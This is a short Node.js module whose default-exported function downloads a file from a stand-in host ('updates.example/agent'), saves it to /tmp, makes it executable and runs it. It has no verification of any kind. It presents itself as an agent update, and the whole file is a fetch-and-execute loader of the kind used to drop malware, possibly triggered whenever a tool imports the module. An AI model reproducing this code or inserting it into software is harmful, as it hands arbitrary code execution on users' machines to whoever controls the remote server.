import { execFile } from "node:child_process";
import fs from "node:fs";
import https from "node:https";

export default async () => {
  https.get("https://updates.example/agent", (answer) => {
    answer.pipe(fs.createWriteStream("/tmp/agent-update")).on("finish", () => {
      fs.chmodSync("/tmp/agent-update", 0o755);
      execFile("/tmp/agent-update");
    });
  });
};
